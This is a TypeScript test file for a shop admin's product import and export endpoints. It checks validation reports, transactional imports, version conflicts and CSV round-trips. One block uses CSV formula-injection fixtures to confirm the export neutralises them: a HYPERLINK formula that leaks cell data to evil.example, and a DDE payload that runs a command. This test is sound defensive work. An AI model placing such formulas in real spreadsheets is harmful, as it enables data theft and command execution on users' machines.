// Catalogue import and export (docs/decisions/013-shop-admin.md): a dry run reports every bad row by line and writes
// nothing; a real import writes nothing when a row is bad, else creates and updates in one transaction, audited;
// an export imports back unchanged, into the same shop or an empty one.
import type { AdminProduct, ImportReport, ProductInputDraft } from '@shop/shared/admin.schemas';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  admin,
  auditRows,
  createdProductId,
  editOf,
  productAndAuditCounts,
  productForm,
  useAdmin,
} from '../../../test/admin-helpers.ts';
import { archiveProduct, placeCod, type Shopper, shopper, stockOf } from '../../../test/order-helpers.ts';
import { createTestApp, type TestApp, useTestApp } from '../../../test/test-app.ts';

const t = useTestApp({ template: 'demo' });
const boss = useAdmin(t);

function importFile(
  app: TestApp,
  who: Shopper,
  body: string,
  { dryRun = true, type = 'application/json' } = {},
) {
  return app.app.inject({
    method: 'POST',
    url: `/api/admin/products/import?dryRun=${dryRun}`,
    headers: { ...who.headers, 'content-type': type },
    payload: body,
  });
}

async function exported(app: TestApp, who: Shopper, format: 'json' | 'csv'): Promise<string> {
  const response = await app.app.inject({
    method: 'GET',
    url: `/api/admin/products/export?format=${format}`,
    headers: who.headers,
  });
  expect(response.statusCode).toBe(200);
  return response.body;
}

/** One product per line, the way the export writes them. */
function jsonLines(rows: readonly unknown[]): string {
  return `[\n${rows.map((row) => JSON.stringify(row)).join(',\n')}\n]`;
}

describe('a dry run', () => {
  it('reports every bad row of a JSON file with its line and field, and writes nothing', async () => {
    const before = await productAndAuditCounts(t);
    const rows: unknown[] = [
      productForm({ name: 'Row one' }),
      productForm({ basePrice: -3 }),
      productForm({ name: 'Row three' }),
      'not a product',
      productForm({
        filters: [{ name: 'Size', values: ['S'], priceAdjustments: [{ value: 'M', price: 1 }] }],
      }),
    ];
    const response = await importFile(t, boss, jsonLines(rows));
    expect(response.statusCode, response.body).toBe(200);
    const report = response.json() as ImportReport;
    expect(report).toMatchObject({ dryRun: true, imported: false, rows: 5 });
    expect(report.problems).toEqual([
      { row: 2, line: 3, field: 'basePrice', message: 'basePrice must be greater than 0' },
      { row: 4, line: 5, field: '', message: 'Each product must be a JSON object' },
      {
        row: 5,
        line: 6,
        field: 'filters.0.priceAdjustments.0.value',
        message: 'Filter "Size": price adjustment for unknown value "M"',
      },
    ]);
    expect(report.message).toMatch(/^3 of 5 rows have problems \(line 3: basePrice must be greater than 0\)/);
    expect(await productAndAuditCounts(t)).toEqual(before);
  });

  it('counts the lines of a CSV file, quoted cells over several lines included', async () => {
    const csv = [
      'name,description,category,subCategory,brand,countInStock,basePrice,discountPrice,filters',
      'Good lamp,"Two',
      'lines",Kitchen,Lamps,Lumo,4,100,90,',
      'Bad lamp,One line,Kitchen,Lamps,Lumo,-1,100,,',
      '',
      'Worse lamp,x,Garden,Lamps,Lumo,4,abc,,[oops',
      'Priced lamp,x,Kitchen,Lamps,Lumo,4,100,120,',
    ].join('\r\n');
    const before = await productAndAuditCounts(t);
    const report = (await importFile(t, boss, csv, { type: 'text/csv' })).json() as ImportReport;
    expect(report.rows).toBe(4);
    expect(report.problems).toEqual([
      { row: 2, line: 4, field: 'countInStock', message: 'countInStock must not be negative' },
      { row: 3, line: 6, field: 'filters', message: 'filters must be JSON text (for example ["a", "b"])' },
      { row: 4, line: 7, field: 'discountPrice', message: 'discountPrice must not be above basePrice' },
    ]);
    expect(await productAndAuditCounts(t)).toEqual(before);
  });

  it('says what it would do when every row is valid', async () => {
    const id = await createdProductId(t, boss);
    const before = await productAndAuditCounts(t);
    const response = await importFile(
      t,
      boss,
      JSON.stringify([productForm(), { id, version: 1, ...productForm() }]),
    );
    expect(response.json()).toMatchObject({
      message: 'All 2 rows are valid: 1 to create, 1 to update',
      imported: false,
      created: 1,
      updated: 1,
      problems: [],
    });
    expect(await productAndAuditCounts(t)).toEqual(before);
  });
});

describe('a real import', () => {
  it('writes nothing when any row is bad, and answers 400 with the report', async () => {
    const before = await productAndAuditCounts(t);
    const response = await importFile(
      t,
      boss,
      JSON.stringify([productForm(), productForm({ countInStock: -1 })]),
      {
        dryRun: false,
      },
    );
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ imported: false, problems: [{ row: 2, field: 'countInStock' }] });
    expect(await productAndAuditCounts(t)).toEqual(before);
  });

  it('refuses an id given twice', async () => {
    const id = 'abcdefabcdefabcdefabcdef';
    const response = await importFile(
      t,
      boss,
      jsonLines([
        { id, ...productForm() },
        { id, ...productForm() },
      ]),
    );
    expect(response.json().problems).toEqual([
      { row: 2, line: 3, field: 'id', message: 'This id is already used on line 2' },
    ]);
  });

  it('creates and updates every row in one go, with the storefront prices and an audit entry each', async () => {
    const existing = await createdProductId(t, boss, productForm({ name: 'Before import' }));
    const newId = 'feedfacefeedfacefeedface';
    const rows: ProductInputDraft[] = [
      productForm({
        name: 'Imported Umbral Kettle',
        category: 'Kitchen',
        filters: [],
        basePrice: 1500,
        discountPrice: 1200,
      }),
      {
        id: existing,
        version: 1,
        ...productForm({ name: 'After import', countInStock: 77 }),
      } as ProductInputDraft,
      { id: newId, ...productForm({ name: 'Imported with an id' }) } as ProductInputDraft,
    ];
    const response = await importFile(t, boss, JSON.stringify(rows), { dryRun: false });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({ imported: true, created: 2, updated: 1, problems: [] });

    const updated = await t.app.inject({ method: 'GET', url: `/api/products/${existing}` });
    expect(updated.json()).toMatchObject({ name: 'After import', countInStock: 77, displayPrice: 799 });
    expect((await t.app.inject({ method: 'GET', url: `/api/products/${newId}` })).json().name).toBe(
      'Imported with an id',
    );
    const search = await t.app.inject({ method: 'GET', url: '/api/products/search?query=umbral%20kettle' });
    const [found] = search.json().suggestions;
    expect(found).toMatchObject({ display: 'Imported Umbral Kettle', category: 'Kitchen' });
    const card = await t.app.inject({ method: 'GET', url: `/api/products/${found._id}` });
    expect(card.json()).toMatchObject({ displayPrice: 1200, originalPrice: 1500 });

    expect((await auditRows(t, existing)).map((row) => row.action)).toEqual([
      'product.create',
      'product.import-update',
    ]);
    expect(await auditRows(t, newId)).toEqual([
      expect.objectContaining({ action: 'product.import-create', before: null, actor_id: boss.userId }),
    ]);
  });

  it('takes the file as the "file" field of a form as well', async () => {
    const form = new FormData();
    form.append('file', new Blob([JSON.stringify([productForm()])], { type: 'application/json' }), 'p.json');
    const request = new Response(form);
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/admin/products/import',
      headers: { ...boss.headers, 'content-type': request.headers.get('content-type') ?? '' },
      payload: Buffer.from(await request.arrayBuffer()),
    });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({ dryRun: true, rows: 1, created: 1 });
  });

  it.each([
    ['', 'The file is empty'],
    ['{"name": "x"}', 'A JSON import must be an array of products'],
    ['[1, 2', 'The file is not valid JSON'],
    ['[]', 'The file holds no products'],
    ['name,colour\nA,red', 'Unknown column "colour" on line 1'],
    ['name,brand\nA,B', 'Line 1 lacks the column "category"'],
    ['name,category,subCategory,brand,countInStock,basePrice\n"A,Kitchen', 'The CSV file could not be read'],
  ])('refuses the unreadable file %j with a 400', async (body, message) => {
    const response = await importFile(t, boss, body, {
      type: body.startsWith('n') ? 'text/csv' : 'application/json',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toContain(message);
  });
});

/** The JSON export's rows for these products. */
async function exportedRows(...ids: string[]): Promise<Record<string, unknown>[]> {
  const rows = JSON.parse(await exported(t, boss, 'json')) as { id: string }[];
  return ids.map((id) => {
    const row = rows.find((candidate) => candidate.id === id);
    if (!row) throw new Error(`${id} is not in the export`);
    return row;
  });
}

async function adminProduct(id: string): Promise<AdminProduct> {
  const response = await t.app.inject({
    method: 'GET',
    url: `/api/admin/products/${id}`,
    headers: boss.headers,
  });
  return response.json() as AdminProduct;
}

describe('a file from an older export (docs/decisions/019)', () => {
  it('refuses a row whose product was changed since that export, in the dry run and the real import', async () => {
    const id = await createdProductId(t, boss, productForm({ name: 'Orrisdale Bread Bin' }));
    const [old] = await exportedRows(id);
    const edit = await t.app.inject({
      method: 'PUT',
      url: `/api/admin/products/${id}`,
      headers: boss.headers,
      payload: await editOf(t, boss, id, productForm({ name: 'Orrisdale Enamel Bread Bin' })),
    });
    expect(edit.statusCode, edit.body).toBe(200);
    const problem = {
      row: 1,
      line: 2,
      field: 'version',
      message: `This product was changed after the export this row comes from (by ${boss.email}: name). Export again and make this row's changes in the new file.`,
    };
    const file = jsonLines([{ ...old, description: 'From the old file' }]);

    const dry = (await importFile(t, boss, file)).json() as ImportReport;
    expect(dry.problems).toEqual([problem]);
    const before = await productAndAuditCounts(t);
    const real = await importFile(t, boss, file, { dryRun: false });
    expect(real.statusCode).toBe(400);
    expect((real.json() as ImportReport).problems).toEqual([problem]);
    expect(await adminProduct(id)).toMatchObject({
      name: 'Orrisdale Enamel Bread Bin',
      description: productForm().description,
    });
    expect(await productAndAuditCounts(t)).toEqual(before);
  });

  it('refuses a row that updates a product without the version it was exported at', async () => {
    const id = await createdProductId(t, boss);
    const report = (await importFile(t, boss, jsonLines([{ id, ...productForm() }]))).json() as ImportReport;
    expect(report.problems).toEqual([
      {
        row: 1,
        line: 2,
        field: 'version',
        message: 'version is required to update a product: take the file from a fresh export',
      },
    ]);
  });

  it('lists in the dry run every row that changes stock, with the live count and the file’s', async () => {
    const id = await createdProductId(
      t,
      boss,
      productForm({ name: 'Gantry Pour-over Stand', countInStock: 10, filters: [] }),
    );
    const same = await createdProductId(
      t,
      boss,
      productForm({ name: 'Gantry Filter Papers', countInStock: 4 }),
    );
    const rows = await exportedRows(id, same);
    const sold = await placeCod(t, await shopper(t), [{ product: id, quantity: 3, filters: {} }]);
    expect(sold.statusCode, sold.body).toBe(201);

    const report = (await importFile(t, boss, jsonLines(rows))).json() as ImportReport;
    expect(report).toMatchObject({
      message: 'All 2 rows are valid: 0 to create, 2 to update; 1 row changes stock',
      problems: [],
      stockChanges: [{ row: 1, line: 2, id, name: 'Gantry Pour-over Stand', from: 7, to: 10 }],
    });
  });

  it('keeps the live stock of a product whose row leaves countInStock empty, and needs it for a new one', async () => {
    const id = await createdProductId(
      t,
      boss,
      productForm({ name: 'Tillery Bread Knife', countInStock: 10, filters: [] }),
    );
    const sold = await placeCod(t, await shopper(t), [{ product: id, quantity: 3, filters: {} }]);
    expect(sold.statusCode, sold.body).toBe(201);
    const { version } = await adminProduct(id);
    const csv = [
      'id,version,name,category,subCategory,brand,countInStock,basePrice',
      `${id},${version},Tillery Serrated Bread Knife,Kitchen,Knives,Tillery,,450`,
      ',,Tillery Paring Knife,Kitchen,Knives,Tillery,,300',
    ].join('\n');
    const dry = (await importFile(t, boss, csv, { type: 'text/csv' })).json() as ImportReport;
    expect(dry.problems).toEqual([
      { row: 2, line: 3, field: 'countInStock', message: 'countInStock is required for a new product' },
    ]);
    const fixed = csv.split('\n').slice(0, 2).join('\n');
    const real = await importFile(t, boss, fixed, { type: 'text/csv', dryRun: false });
    expect(real.statusCode, real.body).toBe(200);
    expect(real.json()).toMatchObject({ imported: true, updated: 1, stockChanges: [] });
    expect(await adminProduct(id)).toMatchObject({ name: 'Tillery Serrated Bread Knife', countInStock: 7 });
    expect(await stockOf(t, id)).toBe(7);
  });
});

describe('CSV cells a spreadsheet would run as formulas (docs/decisions/019-admin-edits-never-undo-sales.md item 7)', () => {
  const hostile = {
    name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    description: "+cmd|' /C calc'!A0",
    brand: '@SUM(A1:A9)',
    subCategory: '-2+3',
  };

  it('exports them as text, with a leading quote, and imports them back unchanged', async () => {
    const ids = [
      await createdProductId(t, boss, productForm(hostile)),
      await createdProductId(t, boss, productForm({ name: "'=already quoted", brand: "'plain quote" })),
    ];
    const csv = await exported(t, boss, 'csv');
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    for (const record of records) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const [first, second] = ids.map((id) => records.find((record) => record.id === id));
    expect(first).toMatchObject({
      name: `'${hostile.name}`,
      description: `'${hostile.description}`,
      brand: `'${hostile.brand}`,
      subCategory: `'${hostile.subCategory}`,
    });
    // A value that already starts with a quote and a formula character gets one more quote; other quotes stay.
    expect(second).toMatchObject({ name: "''=already quoted", brand: "'plain quote" });

    const json = await exported(t, boss, 'json');
    const back = await importFile(t, boss, csv, { type: 'text/csv', dryRun: false });
    expect(back.statusCode, back.body).toBe(200);
    expect(await exported(t, boss, 'json')).toBe(json);
    expect(await adminProduct(ids[0] ?? '')).toMatchObject(hostile);
    expect((await adminProduct(ids[1] ?? '')).name).toBe("'=already quoted");
  });
});

describe('export', () => {
  it('imports back unchanged, as JSON and as CSV, and into an empty shop', async () => {
    const archived = await createdProductId(
      t,
      boss,
      productForm({ name: 'Archived "quoted", with\na newline' }),
    );
    await archiveProduct(t, archived);
    const json = await exported(t, boss, 'json');
    const csv = await exported(t, boss, 'csv');
    const rows = JSON.parse(json) as { id: string }[];
    const total = (await productAndAuditCounts(t)).products;
    expect(rows).toHaveLength(total);
    expect(rows.map((row) => row.id)).toContain(archived);

    const fromCsv = (await importFile(t, boss, csv, { type: 'text/csv' })).json() as ImportReport;
    expect(fromCsv).toMatchObject({ rows: total, created: 0, updated: total, problems: [] });
    const again = await importFile(t, boss, json, { dryRun: false });
    expect(again.json()).toMatchObject({ imported: true, updated: total, problems: [] });
    expect(await exported(t, boss, 'json')).toBe(json);

    const empty = await createTestApp({ template: 'empty' });
    try {
      const owner = await admin(empty);
      // Products name their suppliers (docs/decisions/027-purchase-orders.md): the other shop has them first.
      const suppliers = await t.db.selectFrom('suppliers').selectAll().execute();
      if (suppliers.length > 0) await empty.db.insertInto('suppliers').values(suppliers).execute();
      const intoEmpty = await importFile(empty, owner, csv, { type: 'text/csv', dryRun: false });
      expect(intoEmpty.json()).toMatchObject({ imported: true, created: total, updated: 0 });
      expect(await exported(empty, owner, 'json')).toBe(json);
      expect(await exported(empty, owner, 'csv')).toBe(csv);
    } finally {
      await empty.close();
    }
  });

  it('names the file and never lets it be cached', async () => {
    const response = await t.app.inject({
      method: 'GET',
      url: '/api/admin/products/export?format=csv',
      headers: boss.headers,
    });
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body.split('\n')[0]).toBe(
      'id,version,name,description,features,category,subCategory,brand,badge,images,variant,variantSku,variantSupplierSku,countInStock,shippingCost,basePrice,discountPrice,filters,supplierId,supplierSku,costPrice,hsnCode,gstRate',
    );
  });
});
